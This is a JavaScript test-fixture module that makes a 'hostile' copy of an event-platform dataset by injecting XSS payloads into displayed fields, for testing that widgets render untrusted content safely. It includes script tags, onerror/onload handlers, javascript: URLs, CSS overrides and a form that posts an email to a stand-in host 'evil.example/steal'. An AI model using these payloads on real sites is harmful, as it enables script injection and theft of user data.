// `hostile=1`: the same dataset with every string a widget shows replaced or augmented with content
// that must never execute, escape its container or restyle the host page. Ids, uuids, slugs and
// handles are kept so tests can still address things.

export const XSS = {
  img: '<img src=x onerror=alert(1)>',
  script: '"><script>alert(1)</script>',
  rtl: '\u202Eevil\u202C \u2067مرحبا\u2069',
  js: 'javascript:alert(1)',
  svgData: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  htmlData: 'data:text/html,<script>alert(1)</script>',
};

const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<p onclick="alert(1)">Cliquez <img src="x" onerror="alert(1)"></p>',
  '<a href="javascript:alert(1)">javascript link</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>:host{display:none !important} * {color:red !important} body{background:red}</style>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<form action="https://evil.example/steal" method="post"><input name="email" value="victim@example.com"><button>Envoyer</button></form>',
  '<svg onload="alert(1)"><circle r="10"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>',
  '</div></section></template><img src=x onerror=alert(1)>',
].join('');

const LONG_TITLE = `${'Très long titre '.repeat(130)}`.slice(0, 1997) + 'FIN';

function hostileTitle(original, i) {
  switch (i % 5) {
    case 0:
      return `${XSS.img}${original}`;
    case 1:
      return `${XSS.script}${original}`;
    case 2:
      return LONG_TITLE;
    case 3:
      return `${XSS.rtl} ${original} ${XSS.img}`;
    default:
      return `${original} <b>gras</b> &amp; "quotes" 'apos' <!--`;
  }
}

function hostileAddress(address) {
  if (!address) return address;
  return {
    ...address,
    description: `<b onmouseover=alert(1)>${address.description}</b>`,
    street: `${address.street} <script>alert(1)</script>`,
    locality: `${address.locality}"><img src=x onerror=alert(1)>`,
    region: `${address.region} \u202E`,
    country: `<iframe src=javascript:alert(1)>${address.country}`,
    url: XSS.js,
  };
}

/** Returns a transformed deep copy of a seed dataset. */
export function makeHostile(dataset) {
  const ds = structuredClone(dataset);
  ds.media = ds.media.map((m, i) => ({
    ...m,
    name: `${m.name}"><img src=x onerror=alert(1)>`,
    alt: `${XSS.script} alt`,
    // Most pictures point at javascript:/data: URLs; a few stay real so layouts still get images.
    urlOverride: i % 3 === 0 ? XSS.js : i % 3 === 1 ? XSS.svgData : null,
  }));
  ds.events.forEach((e, i) => {
    e.title = hostileTitle(e.title, i);
    e.description = `${HOSTILE_HTML}${e.description}`;
    e.physicalAddress = hostileAddress(e.physicalAddress);
    e.tags = e.tags.map((t) => ({ ...t, title: `"${t.title}" <tag> & 'x'` }));
    if (e.onlineAddress || i % 4 === 0) e.onlineAddress = XSS.js;
    if (e.joinOptions === 'EXTERNAL' || e.externalParticipationUrl) e.externalParticipationUrl = XSS.js;
    if (e.phoneAddress) e.phoneAddress = `${e.phoneAddress}<script>alert(1)</script>`;
    e.metadata = e.metadata.map((m) => ({ ...m, title: `${m.title}${XSS.img}`, value: XSS.js }));
    e.options.offers = e.options.offers.map((o) => ({ ...o, url: XSS.js, priceCurrency: '<b>EUR</b>' }));
    e.options.participationConditions = [{ title: `Conditions ${XSS.img}`, content: HOSTILE_HTML, url: XSS.js }];
    e.options.timezone = e.options.timezone && i % 7 === 6 ? 'Not/AZone' : e.options.timezone;
  });
  ds.globalEvents.forEach((e, i) => {
    e.title = hostileTitle(e.title, i);
    e.url = i % 2 ? XSS.js : e.url;
    e.physicalAddress = hostileAddress(e.physicalAddress);
    e.tags = e.tags.map((t) => `"${t}" <tag>`);
    e.organizer = { ...e.organizer, name: `${e.organizer.name}${XSS.img}` };
  });
  for (const actor of [...ds.persons, ...ds.groups]) {
    if (actor.preferredUsername === 'anonymous') continue;
    actor.name = `${actor.name}${XSS.img}${XSS.rtl}`;
    actor.summary = `${HOSTILE_HTML}${actor.summary ?? ''}`;
    if (actor.physicalAddress) actor.physicalAddress = hostileAddress(actor.physicalAddress);
    if (actor.url) actor.url = XSS.js;
  }
  ds.globalGroups.forEach((g) => {
    g.name = `${g.name}${XSS.script}`;
    g.summary = HOSTILE_HTML;
    g.url = XSS.js;
  });
  ds.posts.forEach((p, i) => {
    p.title = hostileTitle(p.title, i);
    p.body = `${HOSTILE_HTML}${p.body}`;
    p.tags = p.tags.map((t) => ({ ...t, title: `"${t.title}" <tag>` }));
  });
  ds.instance = {
    name: `Mobilizon Démo ${XSS.img}`,
    description: `Instance hostile ${XSS.script}`,
    slogan: `${XSS.rtl} <style>* {color:red}</style>`,
    longDescription: HOSTILE_HTML,
  };
  return ds;
}

/** `empty=1`: an instance with nothing (no groups, events or posts; only people remain). */
export function makeEmpty(dataset) {
  return { ...dataset, groups: [], events: [], posts: [], globalEvents: [], globalGroups: [] };
}
